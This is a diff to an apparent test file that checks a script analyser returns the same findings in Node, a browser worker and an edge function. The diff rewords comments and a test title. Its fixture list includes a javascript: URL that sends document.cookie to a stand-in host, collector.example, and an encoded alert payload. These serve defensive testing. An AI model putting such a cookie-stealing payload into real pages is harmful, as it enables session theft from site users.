@@ -11,13 +11,13 @@ import { startEdgeAnalyser } from "./edge-analyser.ts";
 import type { RunningAnalyser } from "./running-analyser.ts";
 import { startWorkerAnalyser } from "./worker-analyser.ts";
 
-/** What no corpus has: texts that end in 'Not rated', an address, signs outside of ASCII, and depth. */
+/** Inputs that the corpus lacks: texts that are not rated, an address, characters outside of ASCII, and deep nesting. */
 const ODDITIES = [
 	"let = (",
 	"javascript:void(fetch('https://collector.example/?'+encodeURIComponent(document.cookie)))",
 	"javascript:%61%6c%65%72%74(1)",
 	"// \u202e\u2066 alert\nalert('日本語 🙂 \\ud800');",
-	// A browser's worker has half the stack: what is too deep must be too deep everywhere.
+	// A browser's worker has half the stack: the depth limit must be the same everywhere.
 	...[80, 160, 320, 20_000].map((depth) => `${"(".repeat(depth)}1${")".repeat(depth)}`),
 	...[50, 100, 160, 2_000].map((depth) => `${"(()=>{".repeat(depth)}f()${"})()".repeat(depth)}`),
 	...[1_000, 2_000].map((depth) => `x = 1${" + y".repeat(depth)}`),
@@ -27,7 +27,7 @@ const ODDITIES = [
 /** In short, a fourth of the corpus is analyzed in all three places; a soak run analyzes all of it. */
 const SHARE = process.env.SCRIPTORIUM_SOAK === "1" ? 1 : 4;
 
-/** As it crosses a wire. */
+/** The value after a JSON round trip. */
 const asJson = (value: unknown): unknown => JSON.parse(JSON.stringify(value));
 
 describe("the same script has the same findings in Node, in the hub's worker and in the edge function", () => {
@@ -43,7 +43,7 @@ describe("the same script has the same findings in Node, in the hub's worker and
 		rmSync(folder, { recursive: true, force: true });
 	});
 
-	/** Names what differs, and not how: the sealed half stays unread. */
+	/** Reports which samples differ, but not how: the held-out set must not be read. */
 	async function differences(samples: readonly { readonly file: string; readonly code: string }[]): Promise<string[]> {
 		const found: string[] = [];
 		for (const { file, code } of samples) {
@@ -70,7 +70,7 @@ describe("the same script has the same findings in Node, in the hub's worker and
 		300_000,
 	);
 
-	it("on what cannot be rated, too", async () => {
+	it("for code that cannot be rated, too", async () => {
 		expect(await differences(ODDITIES.map((code) => ({ file: JSON.stringify(code.slice(0, 60)), code })))).toEqual([]);
 	});
 });
